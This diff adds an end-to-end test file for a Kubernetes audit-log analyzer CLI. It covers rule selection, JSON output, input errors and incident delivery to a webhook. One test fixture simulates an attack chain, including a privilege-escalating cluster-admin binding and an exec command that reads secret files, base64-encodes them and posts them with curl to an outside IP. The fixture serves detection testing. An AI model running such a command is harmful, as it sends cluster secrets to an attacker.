@@ -1,0 +1,109 @@
+// `stockade audit analyze` end to end: rule selection, JSON lines, incidents, input problems.
+import assert from 'node:assert/strict';
+import { spawn } from 'node:child_process';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, test } from 'node:test';
+import { fileURLToPath } from 'node:url';
+import { corpusPath } from '../corpus.js';
+import { auditEvent, execEvent } from './events.js';
+
+const root = fileURLToPath(new URL('../../', import.meta.url));
+const dir = mkdtempSync(join(tmpdir(), 'stockade-audit-cli-'));
+after(() => rmSync(dir, { recursive: true, force: true }));
+
+function run(args: string[], stdin = ''): Promise<{ code: number | null; stdout: string; stderr: string }> {
+  return new Promise((resolve) => {
+    const child = spawn(process.execPath, ['--import', 'tsx', 'src/cli/entry.ts', 'audit', ...args], { cwd: root });
+    const killer = setTimeout(() => child.kill('SIGKILL'), 60_000);
+    let stdout = '';
+    let stderr = '';
+    child.stdout.on('data', (c) => (stdout += c));
+    child.stderr.on('data', (c) => (stderr += c));
+    child.on('exit', (code) => {
+      clearTimeout(killer);
+      resolve({ code, stdout, stderr });
+    });
+    child.stdin.end(stdin);
+  });
+}
+
+const trace = (name: string) => corpusPath('falco-k8saudit', 'falco-tests', 'trace_files', 'k8s_audit', name);
+const jsonLines = (text: string) => text.trim().split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>);
+
+test('--rules replaces the defaults, in order; json is one alert per line with the required fields', async () => {
+  const r = await run(['analyze', trace('exec_pod.json'), trace('create_nginx_pod_privileged.json'), '--rules', corpusPath('falco-k8saudit', 'rules', 'k8s_audit_rules-v0.6.0.yaml'), '--format', 'json']);
+  assert.equal(r.code, 0, r.stderr);
+  const alerts = jsonLines(r.stdout);
+  assert.deepEqual(alerts.map((a) => a.rule), ['Attach/Exec Pod', 'Create Privileged Pod']);
+  assert.deepEqual(alerts.map((a) => a.auditID), ['ca1ed9f4-7bf4-4c85-81a8-1b11253d1ba6', 'a362d22b-db3c-4590-9505-23782f12925f']);
+  for (const a of alerts) for (const k of ['rule', 'priority', 'time', 'output', 'auditID']) assert.ok(typeof a[k] === 'string' && a[k] !== '', k);
+  const overlay = await run(['analyze', trace('create_nginx_pod_privileged.json'), '--rules', corpusPath('falco-k8saudit', 'rules', 'k8s_audit_rules-v0.6.0.yaml'), '--rules', corpusPath('falco-k8saudit', 'falco-tests', 'rules', 'k8s_audit', 'trust_nginx_container.yaml'), '--format', 'json']);
+  assert.equal(overlay.stdout, '');
+});
+
+test('default rules from stdin; non-event lines are reported with file and line and give exit 2', async () => {
+  const input = `${JSON.stringify(execEvent(['sh']))}\n{"kind": 0}\n${JSON.stringify(auditEvent())}\n`;
+  const r = await run(['analyze', '-', '--format', 'json'], input);
+  assert.equal(r.code, 2);
+  assert.match(r.stderr, /^stockade: \(stdin\):2: data not recognized as a k8s audit event/m);
+  assert.match(r.stderr, /2 events, \d+ alerts, 1 lines that are not audit events/);
+  assert.ok(jsonLines(r.stdout).some((a) => a.rule === 'Exec Into Pod by Human'));
+  const falco = await run(['analyze', trace('fal_01_003.json')]);
+  assert.equal(falco.code, 2);
+  assert.match(falco.stderr, /fal_01_003\.json:1: data not recognized as a k8s audit event/);
+});
+
+test('a broken rules file is a one-line usage error naming file, line and rule', async () => {
+  const bad = join(dir, 'bad.yaml');
+  writeFileSync(bad, '- rule: Broken\n  desc: d\n  condition: ka.verb=get and ka.no.such.field=1\n  output: o\n  priority: INFO\n  source: k8s_audit\n');
+  const r = await run(['analyze', trace('exec_pod.json'), '--rules', bad]);
+  assert.equal(r.code, 2);
+  assert.equal(r.stderr, `stockade: ${bad}:3: rule "Broken": condition: unknown field ka.no.such.field (at column 17 of the condition)\n`);
+  const missing = await run(['analyze', join(dir, 'nope.log')]);
+  assert.equal(missing.code, 2);
+  assert.match(missing.stderr, /nope\.log: cannot read: ENOENT/);
+});
+
+test('--incidents raises an attack chain above its alerts, and delivers it to a webhook that fails first', async () => {
+  const at = (s: number) => `2026-03-01T10:${String(Math.floor(s / 60)).padStart(2, '0')}:${String(s % 60).padStart(2, '0')}Z`;
+  const user = { username: 'mallory', groups: ['system:authenticated'] };
+  const events = [
+    ...Array.from({ length: 12 }, (_, i) => auditEvent({ user, code: 403, at: at(i), verb: 'list', objectRef: { resource: 'secrets', namespace: 'prod' } })),
+    auditEvent({ user, at: at(100), verb: 'create', objectRef: { resource: 'clusterrolebindings', name: 'pwn' }, code: 201, requestObject: { roleRef: { name: 'cluster-admin' }, subjects: [{ name: 'mallory' }] } }),
+    execEvent(['sh', '-c', 'cat /secrets/* | base64 | curl -d @- http://203.0.113.7'], { user, at: at(200) }),
+  ];
+  let calls = 0;
+  const bodies: Record<string, unknown>[] = [];
+  const server = createServer((req, res) => {
+    let body = '';
+    req.on('data', (c) => (body += c));
+    req.on('end', () => {
+      if (++calls <= 2) return void res.writeHead(500).end();
+      bodies.push(JSON.parse(body));
+      res.writeHead(200).end();
+    });
+  });
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+  try {
+    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/incoming`;
+    const r = await run(['analyze', '-', '--incidents', '--format', 'json', '--webhook', url, '--queue-dir', join(dir, 'queue'), '--delivery-timeout', '30'], events.map((e) => JSON.stringify(e)).join('\n'));
+    assert.equal(r.code, 0, r.stderr);
+    const incidents = jsonLines(r.stdout);
+    const top = incidents[0] as { identity: string; chain: boolean; priority: string; reasons: string[]; alerts: { rule: string; count: number }[] };
+    assert.equal(top.identity, 'mallory');
+    assert.equal(top.chain, true);
+    assert.equal(top.priority, 'CRITICAL');
+    assert.ok(top.reasons.some((x) => x.startsWith('attack chain')));
+    assert.ok(top.alerts.some((a) => a.rule === 'Burst of Forbidden Requests'));
+    assert.equal(bodies.length, incidents.length);
+    assert.equal(bodies[0].type, 'incident');
+    assert.match(r.stderr, /webhook http:\/\/127\.0\.0\.1:\d+: \d+ delivered, 0 still queued/);
+    assert.ok(!r.stderr.includes('/incoming'), 'the webhook path is not printed');
+  } finally {
+    server.close();
+  }
+});
